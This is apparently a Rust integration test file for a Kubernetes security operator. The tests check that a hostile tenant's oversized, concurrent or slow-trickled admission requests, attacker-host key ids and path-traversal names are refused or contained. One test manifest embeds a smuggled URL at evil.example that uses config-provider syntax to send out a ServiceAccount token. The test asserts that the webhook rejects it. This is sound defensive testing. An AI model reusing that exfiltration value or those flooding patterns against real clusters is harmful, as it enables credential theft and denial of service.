//! A hostile tenant: someone who may create our resources (and talk to the webhook's port) but
//! not read Secrets. Oversized and concurrent admission requests leave the operator up with its
//! memory bounded; key ids that would send AKS to another host are refused at admission. (The CA
//! key pasted into a certificate Secret is in `certrot`; the take-over of a foreign Secret in
//! `certrot` and `conflicts`.)

use std::sync::Arc;
use std::time::{Duration, Instant};

use crate::support::{assert_no_secret_leaks, env, stderr, webhook_ready};
use cluster_security_testbed::operator::http_get_ok;
use kube::Api;
use serde_json::{json, Value};

/// The API server's request limit, which the webhook enforces (`webhook::MAX_BODY_BYTES`).
const API_SERVER_LIMIT: usize = 3 * 1024 * 1024;
/// What the operator's container may use (the chart's memory limit).
const CONTAINER_LIMIT_MIB: u64 = 256;

/// An HTTPS client trusting only the CA the operator published as the webhook's caBundle.
async fn webhook_client() -> reqwest::Client {
    let tls = crate::support::webhook_tls(&env().cp).await;
    reqwest::Client::builder().use_preconfigured_tls(tls).timeout(Duration::from_secs(60)).build().unwrap()
}

fn url() -> String {
    format!("https://127.0.0.1:{}/validate", env().operator.webhook_port)
}

/// A ClusterSecurityPolicy review padded with an annotation to `size` bytes of JSON.
fn padded_review(size: usize) -> Vec<u8> {
    let mut review = json!({
        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {
            "uid": "8d2b7c0e-0000-4000-8000-000000000001",
            "kind": {"group": "clustersecurity.io", "version": "v1alpha1", "kind": "ClusterSecurityPolicy"},
            "resource": {"group": "clustersecurity.io", "version": "v1alpha1", "resource": "clustersecuritypolicies"},
            "name": "p", "namespace": "tenant", "operation": "CREATE", "userInfo": {"username": "tenant"},
            "object": {
                "apiVersion": "clustersecurity.io/v1alpha1", "kind": "ClusterSecurityPolicy",
                "metadata": {"name": "p", "namespace": "tenant", "annotations": {"pad": ""}},
                "spec": {"clusterRef": {"kind": "StatefulSet", "name": "kafka"},
                         "clientAuthentication": {"tls": {"enabled": true}},
                         "encryptionInTransit": {"clientBroker": "TLS", "inCluster": true}}
            },
            "dryRun": false
        }
    });
    let base = serde_json::to_vec(&review).unwrap().len();
    review["request"]["object"]["metadata"]["annotations"]["pad"] =
        Value::String("x".repeat(size.saturating_sub(base)));
    serde_json::to_vec(&review).unwrap()
}

/// (VmRSS, VmHWM) of the operator process in MiB.
fn operator_memory_mib() -> (u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{}/status", env().operator.pid())).unwrap();
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .and_then(|v| v.split_whitespace().next())
            .and_then(|kb| kb.parse::<u64>().ok())
            .map(|kb| kb / 1024)
            .unwrap()
    };
    (field("VmRSS:"), field("VmHWM:"))
}

#[tokio::test]
async fn oversized_and_concurrent_reviews_leave_the_webhook_up_with_bounded_memory() {
    let cp = &env().cp;
    webhook_ready(cp).await;
    let client = webhook_client().await;
    let post = |body: Vec<u8>| {
        let client = client.clone();
        async move {
            client.post(url()).header("content-type", "application/json").body(body).send().await.map(|r| r.status())
        }
    };

    // One byte over the API server's limit: refused before it is parsed.
    let status = post(padded_review(API_SERVER_LIMIT + 1)).await.expect("an answer");
    assert_eq!(status.as_u16(), 413, "a body over 3 MiB is refused");

    // 200 at once, each just under axum's own 2 MB default (so only the webhook's bound holds
    // them back): unbounded, each would hold its body and two parsed copies at the same time.
    let (rss_before, _) = operator_memory_mib();
    let started = Instant::now();
    let burst: Vec<_> = (0..200).map(|_| tokio::spawn(post(padded_review(1_900_000)))).collect();
    let (mut answered, mut busy, mut dropped) = (0, 0, 0);
    for task in burst {
        match task.await.unwrap() {
            Ok(s) if s.is_success() => answered += 1,
            Ok(s) if s.as_u16() == 503 || s.as_u16() == 408 => busy += 1,
            Ok(s) => panic!("unexpected answer {s}"),
            // A request turned away before its body was read may see its connection closed.
            Err(_) => dropped += 1,
        }
    }
    let (rss_after, peak) = operator_memory_mib();
    println!(
        "webhook burst: 200 reviews of 1.9 MB in {:.1?}: {answered} answered, {busy} told busy, {dropped} cut off; \
         operator RSS {rss_before} MiB before, {rss_after} MiB after, peak {peak} MiB (limit {CONTAINER_LIMIT_MIB} MiB)",
        started.elapsed()
    );
    assert!(answered >= 4, "at least the in-flight bound's worth is answered: {answered}");
    assert!(peak < CONTAINER_LIMIT_MIB, "peak RSS {peak} MiB stays under the container limit");

    // Still up: ready, and a normal review is answered at once.
    assert!(http_get_ok(env().operator.health_port, "/readyz"), "operator ready after the burst");
    let status = post(padded_review(2_000)).await.expect("an answer after the burst");
    assert!(status.is_success(), "{status}");
    assert_no_secret_leaks(&[]).await;
}

/// 40 reviews, each naming a new random kind of about 1 MB: the kind never becomes a metric
/// label, so neither `/metrics` nor the operator's memory grows with them (before, `/metrics`
/// reached 960 MB and the pod its memory limit).
#[tokio::test]
async fn reviews_naming_random_kinds_grow_neither_metrics_nor_memory() {
    let cp = &env().cp;
    webhook_ready(cp).await;
    let client = webhook_client().await;
    let metrics_size = || {
        let (code, body) = cluster_security_testbed::operator::http_get(env().operator.health_port, "/metrics")
            .expect("/metrics answers");
        assert_eq!(code, 200);
        body.len()
    };
    let (size_before, (rss_before, _)) = (metrics_size(), operator_memory_mib());
    for i in 0..40u32 {
        let mut review: Value = serde_json::from_slice(&padded_review(2_000)).unwrap();
        let kind: String =
            (0..1_000_000u32).map(|j| char::from(b'a' + ((i.wrapping_mul(7919) ^ j) % 26) as u8)).collect();
        review["request"]["kind"]["kind"] = Value::String(kind);
        let status = client.post(url()).json(&review).send().await.expect("an answer").status();
        assert!(status.is_success(), "review {i}: {status}");
    }
    let (size_after, (rss_after, peak)) = (metrics_size(), operator_memory_mib());
    println!(
        "random kinds: 40 reviews of ~1 MB kinds; /metrics {size_before} -> {size_after} bytes; \
         operator RSS {rss_before} -> {rss_after} MiB (peak {peak} MiB)"
    );
    assert!(size_after < 1024 * 1024, "/metrics is {size_after} bytes");
    assert!(size_after < size_before + 4096, "/metrics grew from {size_before} to {size_after} bytes");
    assert!(rss_after < rss_before + 32, "RSS grew from {rss_before} to {rss_after} MiB");
    assert_no_secret_leaks(&[]).await;
}

/// Connections that send their headers and then trickle their bodies (a byte every 100 ms, more
/// connections than the webhook answers at once) never keep a real review out: its body is read
/// before it asks for a place, and the tricklers are cut off after about a second.
#[tokio::test]
async fn trickled_bodies_keep_no_real_review_out() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let cp = &env().cp;
    webhook_ready(cp).await;
    let tls = crate::support::webhook_tls(cp).await;
    let connector = tokio_rustls::TlsConnector::from(Arc::new(tls));
    let body = padded_review(2_000);
    let tricklers: Vec<_> = (0..32)
        .map(|_| {
            let (connector, body) = (connector.clone(), body.clone());
            tokio::spawn(async move {
                let started = Instant::now();
                let tcp = tokio::net::TcpStream::connect(("127.0.0.1", env().operator.webhook_port)).await.unwrap();
                let name = rustls::pki_types::ServerName::try_from("127.0.0.1").unwrap();
                let mut s = connector.connect(name, tcp).await.unwrap();
                let head = format!(
                    "POST /validate HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
                    body.len()
                );
                s.write_all(head.as_bytes()).await.unwrap();
                for b in &body {
                    if s.write_all(&[*b]).await.is_err() || s.flush().await.is_err() || started.elapsed() > Duration::from_secs(30) {
                        break;
                    }
                    tokio::time::sleep(Duration::from_millis(100)).await;
                }
                let mut answer = Vec::new();
                let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut answer)).await;
                (started.elapsed(), String::from_utf8_lossy(&answer).lines().next().unwrap_or_default().to_string())
            })
        })
        .collect();
    // While they trickle, real reviews are answered at once, one after another.
    let client = webhook_client().await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut slowest = Duration::ZERO;
    for _ in 0..10 {
        let asked = Instant::now();
        let status = client
            .post(url())
            .header("content-type", "application/json")
            .body(padded_review(2_000))
            .send()
            .await
            .expect("an answer")
            .status();
        assert!(status.is_success(), "a real review got {status} while bodies trickled in");
        slowest = slowest.max(asked.elapsed());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let mut held = Duration::ZERO;
    for t in tricklers {
        let (took, first_line) = t.await.unwrap();
        held = held.max(took);
        assert!(first_line.is_empty() || first_line.starts_with("HTTP/1.1 408"), "{first_line}");
    }
    println!("trickled bodies: 32 connections at 10 bytes/s; 10 real reviews, slowest {slowest:?}; tricklers cut off within {held:?}");
    assert!(slowest < Duration::from_secs(2), "a real review took {slowest:?}");
    assert!(held < Duration::from_secs(10), "a trickler held its connection for {held:?}");
    assert_no_secret_leaks(&[]).await;
}

#[tokio::test]
async fn key_ids_pointing_elsewhere_are_refused_at_admission() {
    let cp = &env().cp;
    webhook_ready(cp).await;
    let sub = "00000000-1111-2222-3333-444444444444";
    for (key_id, says) in [
        ("https://user@kv-tenant.vault.azure.net/keys/etcd/1", "no user info"),
        ("https://kv-tenant.vault.azure.net:8443/keys/etcd/1", "names a port"),
        ("https://kv-tenant.vault.attacker.example/keys/etcd/1", "--azure-key-vault-dns-suffix"),
        ("https://kv-tenant.vault.azure.net.attacker.example/keys/etcd/1", "--azure-key-vault-dns-suffix"),
    ] {
        let manifest = format!(
            "apiVersion: clustersecurity.io/v1alpha1\nkind: KmsKeyVaultMode\nmetadata: {{name: tenant-kms}}\nspec:\n  networkAccess: Public\n  keyId: {key_id}\n  provider: {{azure: {{subscriptionId: {sub}, resourceGroup: rg, clusterName: aks}}}}\n"
        );
        let out = cp.kubectl_with_stdin(&["apply", "-f", "-"], Some(&manifest));
        assert!(!out.status.success(), "{key_id} was accepted");
        let err = stderr(&out);
        assert!(err.contains("KeyIdSyntax") && err.contains(says), "{key_id}: {err}");
    }
    // The names that go into Resource Manager URLs follow Azure's rules.
    let manifest = format!(
        "apiVersion: clustersecurity.io/v1alpha1\nkind: KmsKeyVaultMode\nmetadata: {{name: tenant-kms}}\nspec:\n  networkAccess: Public\n  keyId: https://kv-tenant.vault.azure.net/keys/etcd/1\n  provider: {{azure: {{subscriptionId: {sub}, resourceGroup: \"rg/../../other\", clusterName: aks}}}}\n"
    );
    let out = cp.kubectl_with_stdin(&["apply", "-f", "-"], Some(&manifest));
    assert!(!out.status.success() && stderr(&out).contains("AzureResourceNames"), "{}", stderr(&out));
    assert_no_secret_leaks(&[]).await;
}

/// The status condition `type` of `kind/name` in `ns` as `status/reason/message`.
fn condition(kind: &str, ns: &str, name: &str, type_: &str) -> String {
    let path = format!(
        "jsonpath={{.status.conditions[?(@.type==\"{type_}\")].status}}/{{.status.conditions[?(@.type==\"{type_}\")].reason}}/{{.status.conditions[?(@.type==\"{type_}\")].message}}"
    );
    crate::support::stdout(&env().cp.kubectl(&["get", kind, name, "-n", ns, "-o", &path]))
}

async fn trust_copy(ns: &str) -> Option<k8s_openapi::api::core::v1::ConfigMap> {
    Api::<k8s_openapi::api::core::v1::ConfigMap>::namespaced(env().cp.client().await.unwrap(), ns)
        .get_opt("kafka-external-trust")
        .await
        .unwrap()
}

/// A tenant's CertificateRotation lists namespaces that never asked for its trust bundle (by
/// name, by a selector they match, one that accepts bundles from someone else): no copy appears
/// in any of them, and the status names the consent a cluster admin would give. Once given, the
/// copy appears; once withdrawn, it goes.
#[tokio::test]
async fn trust_copies_never_reach_a_namespace_that_did_not_consent() {
    let cp = &env().cp;
    let ns = "tenant-trust";
    webhook_ready(cp).await;
    crate::support::brokers(cp, ns, "kafka", 1).await;
    crate::support::apply(
        cp,
        "apiVersion: v1\nkind: Namespace\nmetadata: {name: bystander}\n---\napiVersion: v1\nkind: Namespace\nmetadata: {name: bystander-selected, labels: {tenant-trust: wanted}}\n---\napiVersion: v1\nkind: Namespace\nmetadata: {name: bystander-other, annotations: {clustersecurity.io/accept-trust-from: someone-else}}\n",
    );
    crate::support::apply(
        cp,
        &format!(
            "apiVersion: clustersecurity.io/v1alpha1\nkind: CertificateRotation\nmetadata: {{name: certs, namespace: {ns}}}\nspec:\n  clusterRef: {{kind: StatefulSet, name: kafka}}\n  external: {{label: e1}}\n  internal: {{label: i1}}\n  trustDistribution: {{namespaces: [bystander, bystander-other], namespaceSelector: {{matchLabels: {{tenant-trust: wanted}}}}}}\n"
        ),
    );
    let text = cluster_security_testbed::wait_until(Duration::from_secs(120), "TrustDistributed=False", || async {
        let text = condition("certrot", ns, "certs", "TrustDistributed");
        text.starts_with("False/").then_some(text.clone()).ok_or(text)
    })
    .await
    .unwrap();
    for bystander in ["bystander", "bystander-selected", "bystander-other"] {
        assert!(trust_copy(bystander).await.is_none(), "a copy appeared in {bystander}");
        assert!(
            text.contains(&format!("{bystander}: the namespace does not accept trust bundles from {ns}"))
                && text.contains(&format!(
                    "kubectl annotate namespace {bystander} clustersecurity.io/accept-trust-from={ns}"
                )),
            "{text}"
        );
    }
    assert!(trust_copy(ns).await.is_some(), "the original bundle exists");

    // A cluster admin consents for one namespace: its copy appears (certificates only).
    let out =
        cp.kubectl(&["annotate", "namespace", "bystander", &format!("clustersecurity.io/accept-trust-from={ns}")]);
    assert!(out.status.success(), "{}", stderr(&out));
    let copy = cluster_security_testbed::wait_until(Duration::from_secs(60), "copy in bystander", || async {
        trust_copy("bystander").await.ok_or_else(|| "no copy yet".to_string())
    })
    .await
    .unwrap();
    let keys: Vec<_> = copy.data.unwrap_or_default().into_keys().collect();
    assert_eq!(keys, ["ca.crt", "current-ca.crt"]);
    // Withdrawn: the copy goes.
    let out = cp.kubectl(&["annotate", "namespace", "bystander", "clustersecurity.io/accept-trust-from-"]);
    assert!(out.status.success(), "{}", stderr(&out));
    cluster_security_testbed::wait_until(Duration::from_secs(60), "copy removed from bystander", || async {
        trust_copy("bystander").await.is_none().then_some(()).ok_or_else(|| "still there".to_string())
    })
    .await
    .unwrap();
    assert_no_secret_leaks(&[]).await;
}

/// A ClusterSecurityPolicy waits PENDING for its brokers; meanwhile its tenant points a client's
/// `secretName` at a platform-owned TLS Secret. When the brokers appear, nothing is written over
/// it: the check that runs when an operation opens runs again right before anything is written.
#[tokio::test]
async fn a_pending_operation_retargeted_at_a_platform_secret_leaves_it_untouched() {
    let cp = &env().cp;
    let ns = "tenant-pending";
    webhook_ready(cp).await;
    crate::support::apply(
        cp,
        &format!(
            "apiVersion: v1\nkind: Namespace\nmetadata: {{name: {ns}}}\n---\napiVersion: v1\nkind: Secret\nmetadata: {{name: platform-tls, namespace: {ns}, labels: {{team: platform}}}}\ntype: kubernetes.io/tls\nstringData: {{tls.crt: platform-cert, tls.key: platform-key}}\n"
        ),
    );
    let secrets = Api::<k8s_openapi::api::core::v1::Secret>::namespaced(cp.client().await.unwrap(), ns);
    let before = secrets.get("platform-tls").await.unwrap();
    let policy = |secret_name: &str| {
        format!(
            "apiVersion: clustersecurity.io/v1alpha1\nkind: ClusterSecurityPolicy\nmetadata: {{name: policy, namespace: {ns}}}\nspec:\n  clusterRef: {{kind: StatefulSet, name: kafka}}\n  clientAuthentication: {{tls: {{enabled: true, clients: [{{name: app, secretName: {secret_name}}}]}}}}\n  encryptionInTransit: {{clientBroker: TLS, inCluster: true}}\n"
        )
    };
    crate::support::apply(cp, &policy("app-tls"));
    crate::support::wait_jsonpath(cp, ("csp", ns, "policy"), "{.status.currentOperation.operationState}", 60, |t| {
        t == "PENDING"
    })
    .await;
    crate::support::apply(cp, &policy("platform-tls"));
    crate::support::brokers(cp, ns, "kafka", 1).await;
    let text = cluster_security_testbed::wait_until(Duration::from_secs(90), "Stalled NameConflict", || async {
        let text = condition("csp", ns, "policy", "Stalled");
        text.starts_with("True/NameConflict/").then_some(text.clone()).ok_or(text)
    })
    .await
    .unwrap();
    assert!(text.contains(&format!("Secret {ns}/platform-tls")), "{text}");
    let after = secrets.get("platform-tls").await.unwrap();
    assert_eq!(after.data, before.data, "the platform Secret's data changed");
    assert_eq!(after.metadata.labels, before.metadata.labels, "the platform Secret was labelled");
    assert_eq!(after.metadata.resource_version, before.metadata.resource_version, "the platform Secret was written");
    assert!(secrets.get_opt("app-tls").await.unwrap().is_none(), "nothing was issued for the first name either");
    assert_no_secret_leaks(&[]).await;
}

/// A key-set URL carrying Kafka's config-provider syntax would have every broker read its
/// ServiceAccount token into the URL it then fetches: refused at admission, naming the rule and
/// the field.
#[tokio::test]
async fn config_provider_syntax_in_a_rendered_value_is_refused() {
    let cp = &env().cp;
    webhook_ready(cp).await;
    let manifest = "apiVersion: clustersecurity.io/v1alpha1\nkind: ClusterSecurityPolicy\nmetadata: {name: smuggler, namespace: default}\nspec:\n  clusterRef: {kind: StatefulSet, name: kafka}\n  clientAuthentication:\n    sasl:\n      iam: {enabled: true, issuer: https://issuer.example, audience: kafka, jwksEndpointUrl: 'https://evil.example/k?t=${dir:/var/run/secrets/kubernetes.io/serviceaccount:token}'}\n  encryptionInTransit: {clientBroker: TLS, inCluster: true}\n";
    let out = cp.kubectl_with_stdin(&["apply", "-f", "-"], Some(manifest));
    assert!(!out.status.success(), "the policy was admitted");
    let err = stderr(&out);
    assert!(
        err.contains("PropertiesValueSyntax") && err.contains("spec.clientAuthentication.sasl.iam.jwksEndpointUrl"),
        "{err}"
    );
    assert_no_secret_leaks(&[]).await;
}

/// A client named like the brokers would get a certificate carrying their principal. Named after
/// the cluster, it is refused at admission; named after the brokers' service (which only the
/// operator sees, on the workload), the operation fails with the same rule and issues nothing.
#[tokio::test]
async fn a_client_can_never_be_issued_the_brokers_identity() {
    let cp = &env().cp;
    let ns = "tenant-identity";
    webhook_ready(cp).await;
    let policy = |client: &str| {
        format!(
            "apiVersion: clustersecurity.io/v1alpha1\nkind: ClusterSecurityPolicy\nmetadata: {{name: policy, namespace: {ns}}}\nspec:\n  clusterRef: {{kind: StatefulSet, name: kafka}}\n  clientAuthentication: {{tls: {{enabled: true, clients: [{{name: {client}, secretName: impostor-tls}}]}}}}\n  encryptionInTransit: {{clientBroker: TLS, inCluster: true}}\n"
        )
    };
    crate::support::apply(
        cp,
        &format!(
            "apiVersion: v1\nkind: Namespace\nmetadata: {{name: {ns}}}\n---\napiVersion: apps/v1\nkind: StatefulSet\nmetadata: {{name: kafka, namespace: {ns}}}\nspec:\n  serviceName: kafka-brokers\n  replicas: 1\n  selector: {{matchLabels: {{app: kafka}}}}\n  template:\n    metadata: {{labels: {{app: kafka}}}}\n    spec:\n      containers: [{{name: kafka, image: apache/kafka:3.9.0}}]\n"
        ),
    );
    crate::support::wait_sts_ready(cp, ns, "kafka").await;
    let out = cp.kubectl_with_stdin(&["apply", "-f", "-"], Some(&policy("kafka")));
    let err = stderr(&out);
    assert!(!out.status.success() && err.contains("ClientNotBroker") && err.contains("tls.clients[0].name"), "{err}");

    crate::support::apply(cp, &policy("kafka-brokers"));
    let text = crate::support::wait_jsonpath(
        cp,
        ("csp", ns, "policy"),
        "{.status.operations[0].operationState}/{.status.operations[0].errorInfo.message}",
        90,
        |t| t.starts_with("UPDATE_FAILED/"),
    )
    .await;
    assert!(text.contains("ClientNotBroker") && text.contains("kafka-brokers"), "{text}");
    let secrets = Api::<k8s_openapi::api::core::v1::Secret>::namespaced(cp.client().await.unwrap(), ns);
    assert!(secrets.get_opt("impostor-tls").await.unwrap().is_none(), "a certificate was issued");
    assert_no_secret_leaks(&[]).await;
}
